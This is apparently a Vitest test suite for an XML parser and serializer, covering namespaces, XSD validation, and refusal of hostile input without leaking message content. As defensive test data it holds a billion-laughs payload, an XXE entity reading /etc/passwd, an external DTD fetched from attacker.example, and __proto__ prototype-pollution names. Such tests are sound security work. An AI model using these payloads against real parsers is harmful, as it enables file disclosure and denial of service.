import { beforeAll, describe, expect, it } from 'vitest';
import { MappingError } from './errors.js';
import { loadMessageDefinition } from './load-definition.js';
import type { MessageDefinition } from './message-definition.js';
import { caught, fixturePath, readFixture } from './test-support.js';
import { parseXml, serializeXml } from './xml.js';
import { xsdToDefinition } from './xsd.js';

let order: MessageDefinition;
beforeAll(async () => {
  order = await loadMessageDefinition(fixturePath('order.xsd'));
});

async function refusal(text: string, limits = {}): Promise<MappingError> {
  const error = await caught(() => parseXml(text, { limits }));
  expect(error).toBeInstanceOf(MappingError);
  return error as MappingError;
}

describe('parseXml', () => {
  it('parses without a definition: local names, attributes as @name, repeated elements as arrays', () => {
    const document = parseXml(
      '<a:root xmlns:a="urn:a" kind="x"><a:item>1</a:item><a:item>2</a:item><a:one>&lt;ok&gt; &#65;</a:one></a:root>',
    );
    expect(document.root).toEqual({ name: 'root', namespace: 'urn:a' });
    expect(document.value).toEqual({ '@kind': 'x', item: ['1', '2'], one: '<ok> A' });
  });

  it('shapes the value by the definition: arrays, numbers, text of elements with attributes', async () => {
    const document = parseXml(await readFixture('order-pickup.xml'), { definition: order });
    expect(document.root).toEqual({ name: 'Order', namespace: 'urn:example:orders:1' });
    expect(document.value).toEqual({
      '@id': 'PO-20001',
      OrderDate: '2026-03-15T14:00:00+01:00',
      Customer: { Name: 'Jansen' },
      PickupPoint: 'AMS-04',
      Line: [
        {
          '@number': 1,
          '@status': 'C',
          Sku: 'BRK-001',
          Quantity: 1,
          UnitPrice: { '@currency': 'EUR', '#text': 4.5 },
        },
      ],
    });
  });

  it('keeps CDATA text, even when it looks like markup', () => {
    const document = parseXml('<note><![CDATA[<!DOCTYPE x> & <b>]]></note>');
    expect(document.value).toBe('<!DOCTYPE x> & <b>');
  });

  it('checks the root element and its namespace against the definition', async () => {
    const wrongNamespace = await caught(() =>
      parseXml('<Order xmlns="urn:example:orders:2" id="PO-1"/>', { definition: order }),
    );
    expect(wrongNamespace).toMatchObject({ reason: 'XML_WRONG_ROOT', code: 'INVALID_INPUT' });
    expect((wrongNamespace as Error).message).toContain(
      "expected <Order> in namespace 'urn:example:orders:1'",
    );
    const wrongName = await caught(() =>
      parseXml('<Invoice xmlns="urn:example:orders:1"/>', { definition: order }),
    );
    expect(wrongName).toMatchObject({ reason: 'XML_WRONG_ROOT' });
  });

  it('reports malformed XML with line and column', async () => {
    const error = await refusal('<order>\n  <line>1</lines>\n</order>');
    expect(error.reason).toBe('XML_MALFORMED');
    expect(error.message).toMatch(/at 2:\d+/);
  });
});

describe('parseXml refuses hostile input', () => {
  it('refuses a billion laughs document without expanding it', async () => {
    const laughs = [
      '<?xml version="1.0"?>',
      '<!DOCTYPE lolz [',
      ' <!ENTITY lol "lol">',
      ...Array.from(
        { length: 9 },
        (_, level) => ` <!ENTITY lol${level + 1} "${`&lol${level === 0 ? '' : level};`.repeat(10)}">`,
      ),
      ']>',
      '<lolz>&lol9;</lolz>',
    ].join('\n');
    const error = await refusal(laughs);
    expect(error.reason).toBe('XML_DOCTYPE');
    expect(error.code).toBe('INVALID_INPUT');
    expect(error.message).toContain('DOCTYPE declaration at 2:1');
  });

  it('refuses external entities (XXE)', async () => {
    const error = await refusal('<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>');
    expect(error.reason).toBe('XML_DOCTYPE');
    expect(error.message).not.toContain('root:');
  });

  it('refuses an external DTD', async () => {
    const error = await refusal('<!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd"><r/>');
    expect(error.reason).toBe('XML_DOCTYPE');
  });

  it('refuses references to entities that were never declared', async () => {
    const error = await refusal('<r>&lol9;</r>');
    expect(error.reason).toBe('XML_MALFORMED');
    expect(error.message).toContain("'&lol9;'");
  });

  it('refuses text beyond the size limit before parsing', async () => {
    const big = `<r>${'<i>x</i>'.repeat(2000)}</r>`;
    const error = await refusal(big, { maxBytes: 10_000 });
    expect(error.reason).toBe('XML_TOO_LARGE');
    expect(error.message).toContain('limit of 10000');
    expect(parseXml(big, { limits: { maxBytes: 100_000 } }).value).toMatchObject({ i: expect.any(Array) });
  });

  it('refuses nesting beyond the depth limit', async () => {
    const deep = `${'<d>'.repeat(100_000)}${'</d>'.repeat(100_000)}`;
    const error = await refusal(deep);
    expect(error.reason).toBe('XML_TOO_DEEP');
    expect(error.message).toContain('limit of 64');
    const shallow = `${'<d>'.repeat(5)}${'</d>'.repeat(5)}`;
    expect((await refusal(shallow, { maxDepth: 4 })).reason).toBe('XML_TOO_DEEP');
    expect(parseXml(shallow, { limits: { maxDepth: 5 } }).root.name).toBe('d');
  });

  it('refuses more elements than the element limit', async () => {
    const wide = `<r>${'<i/>'.repeat(101)}</r>`;
    expect((await refusal(wide, { maxElements: 100 })).reason).toBe('XML_TOO_MANY_ELEMENTS');
  });

  it('refuses a document with no root element', async () => {
    expect((await refusal('just text')).reason).toBe('XML_MALFORMED');
  });

  it.each([
    [
      '<constructor> (the parser throws a plain error on it)',
      '<r>\n  <constructor>1</constructor>\n</r>',
      'constructor',
      '2:3',
    ],
    ['<__proto__>', '<r><__proto__><polluted>yes</polluted></__proto__></r>', '__proto__', '1:4'],
    [
      '<toString> (the parser would rename it __toString)',
      '<r><toString>1</toString></r>',
      'toString',
      '1:4',
    ],
    ['a prefixed <p:valueOf>', '<r xmlns:p="urn:p"><p:valueOf>1</p:valueOf></r>', 'p:valueOf', '1:20'],
    ['an attribute toString', '<r><i toString="1"/></r>', 'toString', '1:4'],
    ['an attribute constructor', '<r constructor="1"/>', 'constructor', '1:1'],
    ['an attribute of a non-ASCII element', '<r><é constructor="1"/></r>', 'constructor', '1:4'],
  ])('refuses JavaScript object member names: %s', async (_name, text, name, where) => {
    const error = await refusal(text);
    expect(error.reason).toBe('XML_MALFORMED');
    expect(error.code).toBe('INVALID_INPUT');
    expect(error.message).toBe(
      `the XML message uses the name '${name}' at ${where}, which is refused: names of JavaScript object members (constructor, __proto__, toString, …) cannot be read safely; rename the element or attribute`,
    );
  });

  it('reads such names inside attribute values, text, comments and CDATA as plain content', () => {
    const text =
      '<r note="toString=1 constructor"><!-- <constructor/> --><t>__proto__</t><c><![CDATA[<toString/>]]></c></r>';
    expect(parseXml(text).value).toEqual({
      '@note': 'toString=1 constructor',
      t: '__proto__',
      c: '<toString/>',
    });
    expect(Object.prototype).not.toHaveProperty('polluted');
    expect(parseXml('<é><ü>1</ü></é>')).toEqual({
      root: { name: 'é', namespace: undefined },
      value: { ü: '1' },
    });
  });
});

describe('serializeXml', () => {
  it('writes attributes, the XSD sequence order and the namespace, whatever the property order', async () => {
    const text = serializeXml(
      {
        Note: 'a < b & c',
        Line: [{ UnitPrice: { '#text': 2, '@currency': 'EUR' }, Quantity: 1, Sku: 'ABC-001', '@number': 1 }],
        PickupPoint: 'AMS-04',
        Customer: { Name: 'Ada "A" Lovelace', '@vatId': 'x"y' },
        OrderDate: '2026-01-01T00:00:00Z',
        '@id': 'PO-0001',
      },
      order,
      { indent: '' },
    );
    expect(text).toBe(
      '<?xml version="1.0" encoding="UTF-8"?>' +
        '<Order xmlns="urn:example:orders:1" id="PO-0001">' +
        '<OrderDate>2026-01-01T00:00:00Z</OrderDate>' +
        '<Customer vatId="x&quot;y"><Name>Ada "A" Lovelace</Name></Customer>' +
        '<PickupPoint>AMS-04</PickupPoint>' +
        '<Line number="1"><Sku>ABC-001</Sku><Quantity>1</Quantity><UnitPrice currency="EUR">2</UnitPrice></Line>' +
        '<Note>a &lt; b &amp; c</Note>' +
        '</Order>',
    );
  });

  it('uses a prefix when local elements are unqualified', () => {
    const definition = xsdToDefinition(
      `<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema" xmlns:inv="urn:invoice" targetNamespace="urn:invoice">
         <xs:element name="Invoice"><xs:complexType><xs:sequence>
           <xs:element name="Number" type="xs:string"/>
           <xs:element ref="inv:Total"/>
         </xs:sequence></xs:complexType></xs:element>
         <xs:element name="Total" type="xs:decimal"/>
       </xs:schema>`,
    );
    const text = serializeXml({ Total: 10.5, Number: 'INV-1' }, definition, {
      declaration: false,
      indent: '',
    });
    expect(text).toBe(
      '<inv:Invoice xmlns:inv="urn:invoice"><Number>INV-1</Number><inv:Total>10.5</inv:Total></inv:Invoice>',
    );
    expect(parseXml(text, { definition }).value).toEqual({ Number: 'INV-1', Total: 10.5 });
  });

  it('refuses properties the definition does not know, naming the path', async () => {
    const error = await caught(() => serializeXml({ Customer: { Name: 'A', Phone: '1' } }, order));
    expect(error).toMatchObject({ reason: 'MAPPING_FAILED', path: '$.Customer.Phone' });
  });

  it('refuses a JSON definition', async () => {
    const error = await caught(() => serializeXml({}, { format: 'json', schema: {}, source: 'code' }));
    expect(error).toMatchObject({ reason: 'DEFINITION_INVALID' });
  });
});

describe('parseXml namespaces', () => {
  it('drops namespace declarations and xsi attributes, reads xsi:nil as null, keeps other namespaces apart', () => {
    const document = parseXml(
      `<a:r xmlns:a="urn:a" xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:schemaLocation="urn:a a.xsd" a:q="1" b="2">
         <a:x i:nil="true"/><a:y i:type="a:Special">text</a:y><z xmlns="urn:z" xmlns:i="urn:not-xsi" i:nil="true">3</z>
       </a:r>`,
    );
    expect(document.value).toEqual({
      '@{urn:a}q': '1',
      '@b': '2',
      x: null,
      y: 'text',
      '{urn:z}z': { '@{urn:not-xsi}nil': 'true', '#text': '3' },
    });
  });

  it('never lets an element overwrite another with the same local name', () => {
    // The audit's case: before, this gave {"x":"2"}.
    expect(parseXml('<r xmlns:a="urn:a"><a:x>1</a:x><x>2</x><a:x>3</a:x></r>').value).toEqual({
      x: '2',
      '{urn:a}x': ['1', '3'],
    });
    // The root's namespace gives plain names; no namespace under a namespaced root is `{}name`.
    expect(
      parseXml('<r xmlns="urn:r" xmlns:o="urn:o"><x>1</x><o:x>2</o:x><x xmlns="">3</x><x>4</x></r>').value,
    ).toEqual({ x: ['1', '4'], '{urn:o}x': '2', '{}x': '3' });
  });

  it('keeps attributes with the same local name from different namespaces apart', () => {
    expect(parseXml('<r xmlns:a="urn:a" xmlns:b="urn:b" a:k="1" k="2" b:k="3"/>').value).toEqual({
      '@{urn:a}k': '1',
      '@k': '2',
      '@{urn:b}k': '3',
    });
  });

  it('refuses undeclared prefixes and attributes repeated under two prefixes of one namespace', async () => {
    const prefix = await refusal('<r><a:x>1</a:x></r>');
    expect(prefix.reason).toBe('XML_MALFORMED');
    expect(prefix.message).toBe("the namespace prefix 'a' of element 'a:x' is not declared");
    const attribute = await refusal('<r xmlns:a="urn:a" a:k="1"><x b:k="2"/></r>');
    expect(attribute.message).toBe("the namespace prefix 'b' of attribute 'b:k' is not declared");
    const twice = await refusal('<r xmlns:a="urn:a" xmlns:b="urn:a" a:k="1" b:k="2"/>');
    expect(twice.message).toBe("<r> has the attribute 'k' in namespace 'urn:a' twice");
  });
});

describe('parseXml against an XSD: namespaces and repeats', () => {
  const ORDERS = 'urn:example:orders:1';

  async function violations(edit: (xml: string) => string): Promise<MappingError> {
    const error = await caught(async () =>
      parseXml(edit(await readFixture('order.xml')), { definition: order }),
    );
    expect(error).toBeInstanceOf(MappingError);
    expect(error).toMatchObject({ reason: 'XML_INVALID', code: 'INVALID_INPUT' });
    return error as MappingError;
  }

  it('refuses an element from another namespace with a declared local name', async () => {
    const error = await violations((xml) =>
      xml.replace(
        '<ord:Email>inkoop@hoekstra.example</ord:Email>',
        '<ord:Email>inkoop@hoekstra.example</ord:Email><e:Email xmlns:e="urn:evil">evil@attacker.example</e:Email>',
      ),
    );
    expect(error.violations).toEqual([
      {
        kind: 'structure',
        sourcePath: '$.Customer.Email',
        targetPath: '$',
        message: `<Email> in namespace 'urn:evil' is not allowed here: the XSD expects <Email> in namespace '${ORDERS}'`,
      },
    ]);
    expect(error.message).toBe(
      `the XML message breaks ${order.source}: $.Customer.Email <Email> in namespace 'urn:evil' is not allowed here: the XSD expects <Email> in namespace '${ORDERS}'`,
    );
    expect(error.message).not.toContain('attacker');
  });

  it('refuses an element in no namespace where the XSD qualifies it, even before the right one', async () => {
    const error = await violations((xml) => xml.replace('<ord:Name>', '<Name>Impostor</Name><ord:Name>'));
    expect(error.violations).toEqual([
      {
        kind: 'structure',
        sourcePath: '$.Customer.Name',
        targetPath: '$',
        message: `<Name> (no namespace) is not allowed here: the XSD expects <Name> in namespace '${ORDERS}'`,
      },
    ]);
  });

  it('refuses a repeated element where the XSD allows one, and places foreign array items', async () => {
    const error = await violations((xml) =>
      xml
        .replace(
          '<ord:Email>inkoop@hoekstra.example</ord:Email>',
          '<ord:Email>a@x.example</ord:Email><ord:Email>b@x.example</ord:Email>',
        )
        .replace(
          '<ord:Line number="2" status="S">',
          '<e:Line xmlns:e="urn:evil" number="9"/><ord:Line number="2" status="S">',
        ),
    );
    expect(error.violations).toEqual([
      {
        kind: 'structure',
        sourcePath: '$.Customer.Email',
        targetPath: '$',
        message: `<Email> in namespace '${ORDERS}' appears more than once; the XSD allows one here`,
      },
      {
        kind: 'structure',
        sourcePath: '$.Line[1]',
        targetPath: '$',
        message: `<Line> in namespace 'urn:evil' is not allowed here: the XSD expects <Line> in namespace '${ORDERS}'`,
      },
    ]);
  });

  it('refuses undeclared elements and attributes, and attributes in a namespace the XSD does not give them', async () => {
    const error = await violations((xml) =>
      xml
        .replace('id="PO-10042"', 'id="PO-10042" ord:id="PO-99999"')
        .replace('<ord:Customer vatId="NL001234567B01">', '<ord:Customer vatId="NL001234567B01" rank="gold">')
        .replace('</ord:ShipTo>', '<ord:Phone>+31 20 555 0100</ord:Phone></ord:ShipTo>'),
    );
    expect(error.violations.map(({ sourcePath, message }) => [sourcePath, message])).toEqual([
      [
        '$["@id"]',
        `attribute 'id' in namespace '${ORDERS}' is not allowed here: the XSD declares the attribute 'id' (no namespace)`,
      ],
      ['$.Customer["@rank"]', "attribute 'rank' (no namespace) is not declared here by the XSD"],
      ['$.ShipTo.Phone', `<Phone> in namespace '${ORDERS}' is not declared here by the XSD`],
    ]);
  });

  it('expects local elements of an unqualified schema in no namespace', async () => {
    const definition = xsdToDefinition(
      `<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema" targetNamespace="urn:invoice">
         <xs:element name="Invoice"><xs:complexType><xs:sequence>
           <xs:element name="Number" type="xs:string"/>
         </xs:sequence></xs:complexType></xs:element>
       </xs:schema>`,
    );
    expect(
      parseXml('<i:Invoice xmlns:i="urn:invoice"><Number>1</Number></i:Invoice>', { definition }).value,
    ).toEqual({
      Number: '1',
    });
    const error = await caught(() =>
      parseXml('<Invoice xmlns="urn:invoice"><Number>1</Number></Invoice>', { definition }),
    );
    expect((error as MappingError).violations).toEqual([
      {
        kind: 'structure',
        sourcePath: '$.Number',
        targetPath: '$',
        message:
          "<Number> in namespace 'urn:invoice' is not allowed here: the XSD expects <Number> (no namespace)",
      },
    ]);
  });
});

describe('refusals do not echo message content', () => {
  const canary = 'CANARY-7f3a9-do-not-print';
  it.each([
    ['a DOCTYPE', `<!DOCTYPE r [<!ENTITY s "${canary}">]><r>&s;</r>`, {}],
    ['too large', `<r><password>${canary}</password></r>`, { maxBytes: 10 }],
    ['too deep', `<r><a><password>${canary}</password></a></r>`, { maxDepth: 2 }],
    ['malformed', `<r><password>${canary}</pass></r>`, {}],
    ['an undeclared entity', `<r><password>${canary}&x;</password></r>`, {}],
    ['a reserved name', `<r><constructor>${canary}</constructor></r>`, {}],
  ])('%s', async (_name, text, limits) => {
    const error = await refusal(text, limits);
    expect(error.message).not.toContain(canary);
    expect(JSON.stringify(error.toJSON())).not.toContain(canary);
    expect(String(error.stack)).not.toContain(canary);
  });
});
